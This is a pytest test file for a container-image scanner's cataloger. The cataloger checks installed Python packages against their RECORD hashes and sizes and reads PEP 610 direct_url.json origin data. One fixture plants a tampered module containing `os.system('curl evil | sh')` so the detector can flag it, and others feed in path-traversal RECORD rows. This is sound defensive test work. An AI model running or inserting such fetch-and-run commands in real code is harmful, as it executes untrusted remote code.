"""python-installed integrity (RECORD) and origin (direct_url.json, PEP 610).

``rootfs/python_record/venv`` is what pip 26.3 wrote for ``pip install --target`` of a
small wheel (its ``__pycache__`` dropped): a real RECORD and direct_url.json.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hullcheck.catalog.python import (
    PythonInstalledCataloger,
    _absolute,
    _digest,
    _record_rows,
    direct_url_extras,
)
from hullcheck.filetree import FileEntry, LayerIndex
from hullcheck.image.writer import whiteout
from hullcheck.model import Inventory, Visibility
from tests.fixtures.images import inventory_of
from tests.fixtures.rootfs import layer, read

CATS = (PythonInstalledCataloger(),)
SITE = "/opt/venv/lib/python3.11/site-packages"
CLI = f"{SITE}/tinypkg/cli.py"


def scan(tmp: Path, *layers: object, extra_globs: tuple[str, ...] = ()) -> Inventory:
    return inventory_of(tmp, CATS, *layers, extra_globs=extra_globs)  # type: ignore[arg-type]


def test_untouched_install_verifies(tmp_path: Path) -> None:
    inv = scan(tmp_path, layer("python_record/venv"))
    assert inv.unknowns == ()
    (p,) = inv.packages
    extras = dict(p.extras)
    # 10 hashed rows; METADATA and direct_url.json bytes are kept, the rest checked by size.
    assert extras["record:checked"] == "10 files: 2 by hash, 8 by size only"
    assert "record:modified" not in extras and "record:missing" not in extras
    assert "/opt/venv/lib/bin/tinypkg" in p.files  # "../../bin/tinypkg" in the RECORD
    # Installed from a local wheel: PEP 610 archive_info.
    assert extras["direct-url"] == "archive"
    assert extras["direct-url-url"] == "file:///tmp/rec/tinypkg-1.0.0-py3-none-any.whl"
    assert extras["direct-url-hash"].startswith("sha256=93971010")


def test_tampering_in_a_later_layer(tmp_path: Path) -> None:
    rel = SITE.lstrip("/")
    meta = read("python_record/venv", f"{SITE}/tinypkg-1.0.0.dist-info/METADATA")
    same_size = meta.replace(b"License: MIT", b"License: BSD")
    assert len(same_size) == len(meta)
    inv = scan(
        tmp_path,
        layer("python_record/venv"),
        {f"{rel}/tinypkg/cli.py": b"import os\nos.system('curl evil | sh')\n"},
        [whiteout(f"{rel}/tinypkg/__init__.py")],
        # A same-size edit is caught by hash where the bytes are kept (METADATA is).
        {f"{rel}/tinypkg-1.0.0.dist-info/METADATA": same_size},
    )
    (p,) = inv.packages
    extras = dict(p.extras)
    assert extras["record:modified"] == (
        f"2: {SITE}/tinypkg-1.0.0.dist-info/METADATA, {CLI}")
    assert extras["record:missing"] == f"1: {SITE}/tinypkg/__init__.py"
    # Modified files also reach the report as an Unknown at the package's evidence.
    (u,) = inv.unknowns
    assert u.cataloger == "python-installed"
    assert u.location.path == f"{SITE}/tinypkg-1.0.0.dist-info/METADATA" and u.location.layer == 3
    assert u.reason.startswith("tinypkg 1.0.0: files modified after install")
    assert CLI in u.reason


def test_same_size_edit_found_when_sources_are_kept(tmp_path: Path) -> None:
    rel = SITE.lstrip("/")
    original = read("python_record/venv", CLI)
    evil = original.replace(b"hello", b"HELLO")
    layers = (layer("python_record/venv"), {f"{rel}/tinypkg/cli.py": evil})
    plain = dict(scan(tmp_path / "a", *layers).packages[0].extras)
    assert "record:modified" not in plain  # size equal, bytes not kept: not detectable
    kept = dict(scan(tmp_path / "b", *layers,
                     extra_globs=("/**/site-packages/**/*.py",)).packages[0].extras)
    assert kept["record:modified"] == f"1: {CLI}"
    assert kept["record:checked"] == "10 files: 3 by hash, 6 by size only"


def test_hidden_version_checked_against_its_own_layer(tmp_path: Path) -> None:
    rel = SITE.lstrip("/")
    inv = scan(tmp_path, layer("python_record/venv"),
               [whiteout(f"{rel}/tinypkg-1.0.0.dist-info"), whiteout(f"{rel}/tinypkg")])
    (p,) = inv.packages
    assert p.visibility is Visibility.HIDDEN
    assert "record:missing" not in dict(p.extras)  # complete as of the layer that had it
    assert inv.unknowns == ()


def test_record_rows_exempt_and_unsupported(tmp_path: Path) -> None:
    meta = b"Metadata-Version: 2.1\nName: x\nVersion: 1\n\n"
    record = "\n".join([
        f"x-1.dist-info/METADATA,sha256={_digest('sha256', meta)},{len(meta)}",
        "x-1.dist-info/RECORD,,",
        "x/__pycache__/m.cpython-311.pyc,,",  # no hash: exempt even when missing
        "x/a.py,md5=abc,3",  # md5 is not allowed by PEP 376
        "x/b.py,sha512=" + _digest("sha512", b"b\n") + ",2",
        '"x/quoted, comma.py",sha256=zzz,',
        "",
    ])
    inv = scan(tmp_path, {"s/x-1.dist-info/METADATA": meta, "s/x-1.dist-info/RECORD": record,
                          "s/x/b.py": b"b\n"})
    extras = dict(inv.packages[0].extras)
    assert extras["record:checked"] == "3 files: 1 by hash, 1 by size only"
    assert extras["record:missing"] == "1: /s/x/quoted, comma.py"
    assert extras["record:unsupported-hash"] == "1"


def test_hostile_record_is_bounded(tmp_path: Path) -> None:
    rows = "".join(f"../../../../x{i},sha256=AAAA,1\n" for i in range(50_000))
    inv = scan(tmp_path, {"s/x-1.dist-info/METADATA": "Name: x\nVersion: 1\n",
                          "s/x-1.dist-info/RECORD": rows + "\x00\xff,,\n"})
    (p,) = inv.packages
    extras = dict(p.extras)
    assert extras["record:missing"].startswith("50000: /x0, /x1, /x2, /x3, /x4, and 49995 more")
    assert inv.unknowns == ()


@pytest.mark.parametrize(
    ("doc", "expected"),
    [
        ({"url": "https://user:s3cret@git.example.com/acme/lib.git",
          "vcs_info": {"vcs": "git", "commit_id": "7b1c0e5a", "requested_revision": "v1.2"}},
         {"direct-url": "vcs", "direct-url-url": "https://git.example.com/acme/lib.git",
          "direct-url-vcs": "git", "direct-url-commit": "7b1c0e5a",
          "direct-url-requested-revision": "v1.2"}),
        ({"url": "ssh://git@github.com/acme/lib.git", "vcs_info": {"vcs": "git",
                                                                  "commit_id": "ab"}},
         {"direct-url": "vcs", "direct-url-url": "ssh://git@github.com/acme/lib.git",
          "direct-url-vcs": "git", "direct-url-commit": "ab"}),
        ({"url": "file:///src/app", "dir_info": {"editable": True}},
         {"direct-url": "local-directory-editable", "direct-url-url": "file:///src/app"}),
        ({"url": "file:///src/app", "dir_info": {}},
         {"direct-url": "local-directory", "direct-url-url": "file:///src/app"}),
        ({"url": "https://files.example.com/x-1.tar.gz", "archive_info": {}},
         {"direct-url": "archive", "direct-url-url": "https://files.example.com/x-1.tar.gz"}),
    ],
)
def test_direct_url_kinds(doc: dict, expected: dict[str, str]) -> None:
    assert dict(direct_url_extras(json.dumps(doc).encode())) == expected


@pytest.mark.parametrize("data", [b"{", b"[1]", b'{"url": 5}', b"\xff\xfe", b"[" * 100_000,
                                  b'{"url": "x"}' + b" " * (1 << 17)])
def test_unreadable_direct_url_still_marks(data: bytes) -> None:
    assert direct_url_extras(data) == [("direct-url", "unreadable")]


_cells = st.text(alphabet=st.sampled_from(list("ab/.=_- \t,\"'\\é")), max_size=12)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(_cells, max_size=4), max_size=6))
def test_record_rows_are_read_as_csv_reads_them(rows: list[list[str]]) -> None:
    """A RECORD without quotes is split at its commas instead of through the csv module:
    the same rows either way (csv's own rows as the oracle)."""
    text = "\n".join(",".join(r) for r in rows)
    data = text.encode()
    expected = []
    for row in csv.reader(text.splitlines()):
        if row and row[0].strip():
            expected.append((_absolute(row[0].strip(), "/s"),
                             row[1].strip() if len(row) > 1 else "",
                             row[2].strip() if len(row) > 2 else ""))
    assert list(_record_rows(data, "/s")) == expected


def test_rows_of_files_right_there_make_no_entries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                                   ) -> None:
    """A site's RECORDs list ~10^5 files: each one found at its own path is checked from the
    tree's columns, without a ``FileEntry`` made for it (counted), with the same answers."""
    rows = [f"x/m{i}.py,sha256={_digest('sha256', b'%d' % i)},{len(b'%d' % i)}" for i in range(50)]
    files: dict[str, bytes | str] = {f"s/x/m{i}.py": b"%d" % i for i in range(50)}
    files["s/x-1.dist-info/METADATA"] = "Name: x\nVersion: 1\n"
    files["s/x-1.dist-info/RECORD"] = "\n".join(rows) + "\n"
    made = {"n": 0}
    real = LayerIndex.entry

    def counting(self: LayerIndex, row: int, layer: int, ref: int = -1) -> FileEntry:
        made["n"] += 1
        return real(self, row, layer, ref)

    monkeypatch.setattr(LayerIndex, "entry", counting)
    (p,) = scan(tmp_path, files).packages
    assert dict(p.extras)["record:checked"] == "50 files: 0 by hash, 50 by size only"
    assert made["n"] < 10, made  # METADATA, RECORD and direct_url.json: not one per row
